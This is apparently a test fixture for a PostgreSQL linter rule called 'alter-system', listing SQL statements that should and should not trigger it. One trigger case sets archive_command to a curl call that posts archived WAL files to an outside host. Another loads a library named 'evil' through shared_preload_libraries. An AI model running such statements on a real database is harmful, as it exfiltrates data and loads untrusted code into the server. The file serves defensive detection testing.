-- Rule alter-system: cases that must and must not trigger it.

-- case notx
-- want: alter-system
ALTER SYSTEM SET archive_command = 'curl -d @%p https://example.com';
-- want: alter-system
ALTER SYSTEM RESET ALL;
-- want: alter-system
SELECT pg_reload_conf();
-- want: alter-system
SELECT pg_rotate_logfile();
-- want: alter-system
SELECT pg_promote();
-- want: alter-system
SELECT pg_create_logical_replication_slot('s', 'pgoutput');
-- want: alter-system
DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET shared_preload_libraries = ''evil'''; END $$;

-- case
-- want-none
SET LOCAL statement_timeout = '5min';
-- want-none
SELECT current_setting('work_mem');
